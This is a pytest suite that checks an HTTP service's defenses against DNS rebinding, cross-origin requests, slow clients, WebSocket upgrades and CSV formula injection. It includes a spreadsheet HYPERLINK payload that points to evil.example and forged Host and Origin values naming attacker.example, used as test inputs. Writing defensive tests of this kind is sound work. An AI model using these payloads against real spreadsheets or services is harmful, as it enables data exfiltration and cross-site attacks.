"""`dynbo serve`'s defenses over real HTTP (issue 31): DNS rebinding and cross-site
requests (Host, Origin, content type), slow clients (header and body timeouts, the
connection limit), CSV formula injection, WebSocket upgrades, slash redirects, HEAD.

The servers are ``python -m dynbo serve`` subprocesses (``tests.test_service_http``);
the raw-socket helpers below send exactly the bytes a test needs.
"""

import asyncio
import contextlib
import csv
import io
import json
import socket
import time

import pytest

from dynbo.client import Client
from tests.test_service_http import CHEAP, TOKEN, ServerProcess, in_process, raw

pytest.importorskip("fastapi")
pytest.importorskip("uvicorn")

#: the small limits of the open server (seconds, connections)
TIMEOUT = 1.0
MAX_CONNECTIONS = 4


@contextlib.contextmanager
def serving(tmp_path_factory, *args, token=None):
    """A ``dynbo serve`` subprocess with ``args``, ready; stopped at the end."""
    path = tmp_path_factory.mktemp("serve")
    with open(path / "server.log", "wb") as log, contextlib.ExitStack() as stack:
        process = ServerProcess(path / "s.sqlite", *args, token=token, log=log)
        stack.callback(process.stop)
        yield process.wait_ready()


@pytest.fixture(scope="module")
def open_server(tmp_path_factory):
    """Loopback, no token, 1-second header and body timeouts, 4 connections at most."""
    limits = ["--header-timeout", str(TIMEOUT), "--body-timeout", str(TIMEOUT)]
    with serving(tmp_path_factory, *limits, "--max-connections", str(MAX_CONNECTIONS)) as server:
        yield server


@pytest.fixture(scope="module")
def token_server(tmp_path_factory):
    with serving(tmp_path_factory, token=TOKEN) as server:
        yield server


def connect(server, timeout=15.0):
    return socket.create_connection(("127.0.0.1", server.port), timeout=timeout)


def read_response(sock, head=False):
    """(status, headers (lower-case names), body) of one response; the body by its
    Content-Length (none for a ``head`` request), else up to the end of the connection;
    ``None`` if the server closed the connection without a byte."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            if not data:
                return None
            raise AssertionError(f"the connection closed inside the headers: {data!r}")
        data += chunk
    top, _, body = data.partition(b"\r\n\r\n")
    lines = top.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    length = "0" if head else headers.get("content-length")
    while length is None or len(body) < int(length):
        chunk = sock.recv(65536)
        if not chunk:
            break
        body += chunk
    return status, headers, body


def exchange(server, data, timeout=15.0):
    """Send ``data`` on a fresh connection and read one response."""
    with connect(server, timeout) as sock:
        sock.sendall(data)
        return read_response(sock, head=data.startswith(b"HEAD "))


def request(method, path, headers, body=b"", version="1.1"):
    """The bytes of one request (``headers`` as given: no Host unless there is one)."""
    lines = [f"{method} {path} HTTP/{version}"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def error_of(response):
    status, headers, body = response
    assert headers["content-type"] == "application/json", (status, headers, body)
    return status, json.loads(body)["error"]


def closed_within(sock, seconds):
    """Seconds until the server closed ``sock`` (reading and dropping what it sends);
    fails after ``seconds``."""
    started = time.monotonic()
    sock.settimeout(seconds)
    received = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            chunk = b""
        if not chunk:
            return time.monotonic() - started, received
        received += chunk


def counts(client, name):
    info = client.study(name)
    return info["events"], info["observations"], info["suggestions"]


# ---------------------------------------------------------------------- item 2: Host


def test_without_a_token_only_a_loopback_host_header_is_answered(open_server):
    client = Client(open_server.url, retries=0)
    client.create_study("victim", "gp-ucb", [[0.0], [1.0]], options=CHEAP, clock="client")
    port = open_server.port
    before = counts(client, "victim")
    for host in [
        f"attacker.example:{port}",
        "attacker.example",
        f"127.0.0.1.nip.io:{port}",
        f"localhost.attacker.example:{port}",
        "localhost:1",  # another port: not this server's name
        f"127.0.0.1:{port}0",
        f"[::1]x:{port}",
        "",
    ]:
        for method, path in [("GET", "/studies"), ("DELETE", "/studies/victim")]:
            response = exchange(open_server, request(method, path, {"Host": host}))
            status, message = error_of(response)
            assert status == 421 and "Host" in message and "DNS rebinding" in message, host
            assert b"victim" not in response[2]
    assert counts(client, "victim") == before
    # HTTP/1.0 may omit the Host header: refused too; HTTP/1.1 must carry one (h11: 400)
    status, message = error_of(exchange(open_server, request("GET", "/studies", {}, version="1.0")))
    assert status == 421 and "none" in message
    status, _, body = exchange(open_server, request("GET", "/studies", {}))
    assert status == 400 and b"victim" not in body
    # two Host headers
    twice = request("GET", "/studies", {"Host": f"127.0.0.1:{port}"})
    twice = twice.replace(b"\r\n\r\n", b"\r\nHost: attacker.example\r\n\r\n")
    status, _, body = exchange(open_server, twice)
    assert status == 400 and b"victim" not in body
    # the loopback names, with this server's port or none, in any case
    for host in [f"127.0.0.1:{port}", f"localhost:{port}", f"LocalHost:{port}", f"[::1]:{port}"]:
        status, _, body = exchange(open_server, request("GET", "/studies", {"Host": host}))
        assert status == 200 and b"victim" in body
    for name in ("127.0.0.1", "localhost", "[::1]"):
        assert exchange(open_server, request("GET", "/health", {"Host": name}))[0] == 200
    client.delete_study("victim")


# ---------------------------------------------------------------------- item 2: Origin


def test_cross_origin_requests_are_refused_with_and_without_a_token(open_server, token_server):
    for server, token in ((open_server, None), (token_server, TOKEN)):
        client = Client(server.url, token, retries=0)
        client.create_study("xs", "gp-ucb", [[0.0], [1.0]], options=CHEAP, clock="client")
        before = counts(client, "xs")
        auth = {} if token is None else {"Authorization": f"Bearer {token}"}
        own = f"http://127.0.0.1:{server.port}"
        for origin in [
            "http://attacker.example",
            "null",
            own + "0",
            f"http://localhost:{server.port}",
        ]:
            for kind, body in [("text/plain", b""), ("application/json", b'{"t": 1.0}')]:
                headers = {
                    "Host": f"127.0.0.1:{server.port}",
                    "Origin": origin,
                    "Content-Type": kind,
                    "Content-Length": str(len(body)),
                    **auth,
                }
                response = exchange(server, request("POST", "/studies/xs/suggest", headers, body))
                status, message = error_of(response)
                assert status == 403 and "Origin" in message and own in message, (origin, kind)
            delete = {"Host": f"127.0.0.1:{server.port}", "Origin": origin, **auth}
            assert exchange(server, request("DELETE", "/studies/xs", delete))[0] == 403
        assert counts(client, "xs") == before
        # the service's own origin (as a browser on the dashboard sends it) is served
        status, payload = raw(
            server, "POST", "/studies/xs/suggest", {"t": 1.0}, token=token, headers={"Origin": own}
        )
        assert status == 200 and payload["query_id"] == 1
        client.delete_study("xs")
    # with a token, the token is checked first: a foreign Origin without it is a 401
    assert raw(token_server, "GET", "/health", token=None, headers={"Origin": "null"})[0] == 401


# ---------------------------------------------------------------------- item 2: content type


def test_a_body_that_is_not_declared_json_is_415_and_changes_nothing(open_server):
    client = Client(open_server.url, retries=0)
    client.create_study("ct", "gp-ucb", [[0.0], [1.0]], options=CHEAP, clock="client")
    before = counts(client, "ct")
    host = {"Host": f"127.0.0.1:{open_server.port}"}
    observe = b'{"x": [0.5], "t": 1.0, "y": 1.0}'
    for method, path, kind, body in [
        ("POST", "/studies/ct/suggest", "text/plain", b""),  # the cross-site "simple" form
        ("POST", "/studies/ct/suggest", "text/plain", b'{"t": 1.0}'),
        ("POST", "/studies/ct/observe", "application/x-www-form-urlencoded", observe),
        ("POST", "/studies/ct/observe", "multipart/form-data; boundary=x", observe),
        ("POST", "/studies/ct/observe", "application/jsonx", observe),
        ("POST", "/studies/ct/observe", None, observe),  # a body and no Content-Type
        ("DELETE", "/studies/ct", "text/plain", b""),
        ("PUT", "/studies/ct", "text/plain", b"{}"),
    ]:
        headers = {**host, "Content-Length": str(len(body))}
        if kind is not None:
            headers["Content-Type"] = kind
        status, message = error_of(exchange(open_server, request(method, path, headers, body)))
        assert status == 415 and "application/json" in message, (method, path, kind)
    assert counts(client, "ct") == before
    # JSON with parameters is JSON; a GET's Content-Type is not looked at; DELETE without
    # a body needs none
    json_utf8 = {**host, "Content-Type": "Application/JSON; charset=utf-8"}
    body = b'{"t": 1.0}'
    headers = {**json_utf8, "Content-Length": str(len(body))}
    assert exchange(open_server, request("POST", "/studies/ct/suggest", headers, body))[0] == 200
    assert (
        exchange(open_server, request("GET", "/studies/ct", {**host, "Content-Type": "x/y"}))[0]
        == 200
    )
    assert exchange(open_server, request("DELETE", "/studies/ct", host))[0] == 200


# ---------------------------------------------------------------------- item 3: slow clients


def test_headers_that_do_not_arrive_in_time_close_the_connection_with_408(open_server):
    with connect(open_server) as sock:
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        seconds, received = closed_within(sock, 10)
    assert TIMEOUT * 0.8 < seconds < 10
    assert received.startswith(b"HTTP/1.1 408 ") and b"connection: close" in received.lower()
    assert b"headers did not arrive within 1 s" in received
    # trickling does not help: the timer runs from the connection's start
    with connect(open_server) as sock:
        started = time.monotonic()
        for part in (b"GET /health HTTP/1.1\r\n", b"Host: 127.0.0.1\r\n", b"X-A: 1\r\n") * 4:
            try:
                sock.sendall(part)
            except OSError:
                break
            time.sleep(0.3)
        _, received = closed_within(sock, 10)
        assert time.monotonic() - started < 10 and b" 408 " in received


def test_an_idle_connection_is_closed(open_server):
    with connect(open_server) as sock:  # a fresh connection that sends nothing
        seconds, received = closed_within(sock, 10)
    assert TIMEOUT * 0.8 < seconds < 10 and received == b""
    # a kept-alive connection: answered twice, then closed after the keep-alive (5 s)
    with connect(open_server) as sock:
        for _ in range(2):
            sock.sendall(request("GET", "/health", {"Host": "127.0.0.1"}))
            status, headers, body = read_response(sock)
            assert status == 200 and json.loads(body)["status"] == "ok"
            time.sleep(TIMEOUT * 1.5)  # idle past the header timeout: still open
        seconds, received = closed_within(sock, 10)
    assert 2 < seconds < 10 and received == b""


def test_a_later_request_on_a_kept_alive_connection_must_arrive_in_time(open_server):
    with connect(open_server) as sock:
        sock.sendall(request("GET", "/health", {"Host": "127.0.0.1"}))
        assert read_response(sock)[0] == 200
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: 127")
        seconds, received = closed_within(sock, 10)
    assert seconds < 10 and received.startswith(b"HTTP/1.1 408 ")


def test_a_body_that_does_not_arrive_in_time_closes_the_connection(open_server):
    client = Client(open_server.url, retries=0)
    client.create_study("slowbody", "gp-ucb", [[0.0], [1.0]], options=CHEAP, clock="client")
    before = counts(client, "slowbody")
    body = b'{"x": [0.5], "t": 1.0, "y": 1.0}'.ljust(100)
    headers = {"Host": "127.0.0.1", "Content-Type": "application/json", "Content-Length": "100"}
    with connect(open_server) as sock:
        sock.sendall(request("POST", "/studies/slowbody/observe", headers, body[:10]))
        seconds, received = closed_within(sock, 10)
    assert TIMEOUT * 0.8 < seconds < 10
    assert received.startswith(b"HTTP/1.1 408 ") and b"body did not arrive within 1 s" in received
    assert counts(client, "slowbody") == before
    # the same request in time is recorded
    status, _, answer = exchange(
        open_server, request("POST", "/studies/slowbody/observe", headers, body)
    )
    assert status == 200 and json.loads(answer)["observation"] == 1
    client.delete_study("slowbody")


def test_connections_above_the_limit_get_503(open_server):
    held = [connect(open_server) for _ in range(MAX_CONNECTIONS)]
    try:
        with connect(open_server) as extra:
            status, message = error_of(read_response(extra))
            assert status == 503 and f"limit of {MAX_CONNECTIONS}" in message
            assert extra.recv(1) == b""  # and closed
    finally:
        for sock in held:
            sock.close()
    # the held ones gone, a new connection is served
    deadline = time.monotonic() + 10
    while True:
        response = exchange(open_server, request("GET", "/health", {"Host": "127.0.0.1"}))
        if response[0] == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert response[0] == 200


def test_the_cli_refuses_bad_limits_and_its_defaults_are_the_services(capsys):
    import argparse

    from dynbo.cli import main
    from dynbo.cli.commands import serve
    from dynbo.service import http

    for flag, value in [
        ("--header-timeout", "0"),
        ("--header-timeout", "nan"),
        ("--body-timeout", "-1"),
        ("--body-timeout", "inf"),
        ("--max-connections", "0"),
        ("--max-connections", "2.5"),
    ]:
        assert main(["serve", flag, value]) == 2
        err = capsys.readouterr().err
        assert err.startswith("dynbo: error:") and err.count("\n") == 1 and flag in err
    parser = argparse.ArgumentParser()
    serve.add_arguments(parser)
    defaults = parser.parse_args([])
    assert defaults.header_timeout == http.DEFAULT_HEADER_TIMEOUT == 10
    assert defaults.body_timeout == http.DEFAULT_BODY_TIMEOUT == 30
    assert defaults.max_connections == http.DEFAULT_MAX_CONNECTIONS == 256
    from dynbo.service.app import serve as run_service

    for bad in ({"header_timeout": 0}, {"body_timeout": float("nan")}, {"max_connections": 0}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            run_service("unused.sqlite", **bad)


# ---------------------------------------------------------------------- item 4: CSV


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(open_server):
    client = Client(open_server.url, retries=0)
    client.create_study("csvi", "gp-ucb", [[-1.0], [1.0]], options=CHEAP, clock="client")
    keys = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx"]
    keys += ["\rx", "safe-key"]
    for k, key in enumerate(keys):
        client.observe("csvi", -0.25 - k, x=[-0.5], t=float(k), key=key)
    status, text = raw(open_server, "GET", "/studies/csvi/history?format=csv", token=None)
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["idempotency_key"] for r in rows] == ["'" + k for k in keys[:-1]] + ["safe-key"]
    # numbers stay numbers, negative ones too
    assert [r["y"] for r in rows] == [str(-0.25 - k) for k in range(len(keys))]
    assert {r["x0"] for r in rows} == {"-0.5"}
    assert rows[0]["seq"] == "1" and rows[0]["kind"] == "observe"
    # the JSON history is as recorded
    events = client.history("csvi")
    assert [e["idempotency_key"] for e in events] == keys
    client.delete_study("csvi")


# ---------------------------------------------------------------------- item 5


UPGRADE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}


def test_a_websocket_upgrade_is_refused(open_server, token_server, tmp_path):
    host = {"Host": f"127.0.0.1:{open_server.port}"}
    status, message = error_of(
        exchange(open_server, request("GET", "/health", {**host, **UPGRADE}))
    )
    assert status == 403 and "WebSocket" in message
    auth = {"Host": "127.0.0.1", "Authorization": f"Bearer {TOKEN}"}
    status, message = error_of(exchange(token_server, request("GET", "/", {**auth, **UPGRADE})))
    assert status == 403 and "WebSocket" in message
    # under a uvicorn that does upgrade (a WebSocket library installed, as the tests'
    # selenium brings wsproto), the Guard closes the WebSocket before accepting it: 403
    with in_process(tmp_path / "s.sqlite", token=TOKEN, refit=False) as url:
        port = int(url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
            sock.sendall(request("GET", "/studies", {**auth, **UPGRADE}))
            status = read_response(sock)[0]
        assert status == 403


def test_the_guard_closes_a_websocket_with_1008_and_refuses_unknown_scopes():
    from dynbo.service.security import Guard

    reached = []

    async def app(scope, receive, send):
        reached.append(scope["type"])

    guard = Guard(app, TOKEN, 1024)
    sent = []

    async def receive():
        return {"type": "websocket.connect"}

    async def send(message):
        sent.append(message)

    asyncio.run(guard({"type": "websocket", "path": "/", "headers": []}, receive, send))
    assert sent == [{"type": "websocket.close", "code": 1008}] and reached == []
    with pytest.raises(ValueError, match="'telepathy'"):
        asyncio.run(guard({"type": "telepathy"}, receive, send))
    assert reached == []


def test_no_slash_redirect_head_health_and_malformed_http(open_server):
    host = {"Host": f"127.0.0.1:{open_server.port}"}
    response = exchange(open_server, request("GET", "/studies/", {**host}))
    assert "location" not in response[1]
    status, message = error_of(response)
    assert status == 404 and message == "Not Found"
    status, headers, body = exchange(open_server, request("HEAD", "/health", host))
    assert status == 200 and body == b"" and headers["content-type"] == "application/json"
    # malformed HTTP: uvicorn's plain-text 400 (docs/live.md says so)
    status, headers, body = exchange(open_server, b"NOT HTTP AT ALL\r\n\r\n")
    assert status == 400 and headers["content-type"].startswith("text/plain")
